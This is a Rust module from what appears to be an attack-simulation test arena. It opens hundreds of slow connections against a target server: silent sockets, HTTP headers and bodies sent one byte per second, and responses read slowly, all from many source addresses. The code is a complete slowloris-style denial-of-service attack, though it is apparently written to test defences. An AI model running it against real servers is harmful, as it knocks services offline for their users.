//! Slow connections of four kinds: silent, a head byte by byte, a body byte by byte, an answer hardly read.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::Attacking;
use crate::arena::{Arena, addresses};
use crate::client::{Sender, connect};

/// Connections of each kind that are kept open.
const EACH: usize = 200;
const NETWORKS: u32 = 40;
/// The pause between two bytes, and before a connection that was closed is opened again.
const DRIP: Duration = Duration::from_secs(1);
/// Bytes of an answer that are read in that time.
const SIP_BYTES: usize = 512;

#[derive(Clone, Copy)]
enum Kind {
    Silent,
    HeadDrip,
    BodyDrip,
    SlowRead,
}

/// All four at once.
pub fn slow_connections(arena: Arc<Arena>) -> Attacking {
    Box::pin(async move {
        let from = addresses(NETWORKS);
        let mut held = JoinSet::new();
        for kind in [Kind::Silent, Kind::HeadDrip, Kind::BodyDrip, Kind::SlowRead] {
            for number in 0..EACH {
                held.spawn(hold(Arc::clone(&arena), from[number % from.len()], kind));
            }
        }
        while held.join_next().await.is_some() {}
    })
}

async fn hold(arena: Arc<Arena>, from: Ipv4Addr, kind: Kind) {
    loop {
        arena.tally.sent();
        if let Ok(mut stream) = connect(from, arena.to.address).await {
            let _ = hold_once(&arena, &mut stream, kind).await;
            arena.tally.note(match kind {
                Kind::Silent => "silent closed",
                Kind::HeadDrip => "head drip closed",
                Kind::BodyDrip => "body drip closed",
                Kind::SlowRead => "slow read closed",
            });
        } else {
            arena.tally.note("not connected");
        }
        tokio::time::sleep(DRIP).await;
    }
}

async fn hold_once(arena: &Arena, stream: &mut TcpStream, kind: Kind) -> std::io::Result<()> {
    let (host, sender) = (&arena.to.host, format!("{}: {}", Sender::HEADER, Sender::Attacker.name()));
    let mut bytes = [0; SIP_BYTES];
    match kind {
        Kind::Silent => stream.read(&mut bytes).await.map(|_| ()),
        Kind::HeadDrip => {
            stream.write_all(format!("GET /page/1 HTTP/1.1\r\nHost: {host}\r\nX-Drip: ").as_bytes()).await?;
            loop {
                tokio::time::sleep(DRIP).await;
                stream.write_all(b"a").await?;
            }
        }
        Kind::BodyDrip => {
            let head = format!("POST /upload HTTP/1.1\r\nHost: {host}\r\n{sender}\r\nContent-Length: 100000\r\n\r\n");
            stream.write_all(head.as_bytes()).await?;
            drip(stream).await
        }
        Kind::SlowRead => {
            let head = format!("GET /download HTTP/1.1\r\nHost: {host}\r\n{sender}\r\n\r\n");
            stream.write_all(head.as_bytes()).await?;
            loop {
                if stream.read(&mut bytes).await? == 0 {
                    return Ok(());
                }
                tokio::time::sleep(DRIP).await;
            }
        }
    }
}

/// A byte of a body at a time, until an answer comes or the connection ends.
pub(super) async fn drip(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut answer = [0; 1024];
    loop {
        tokio::select! {
            read = stream.read(&mut answer) => return read.map(|_| ()),
            () = tokio::time::sleep(DRIP) => stream.write_all(b"b").await?,
        }
    }
}
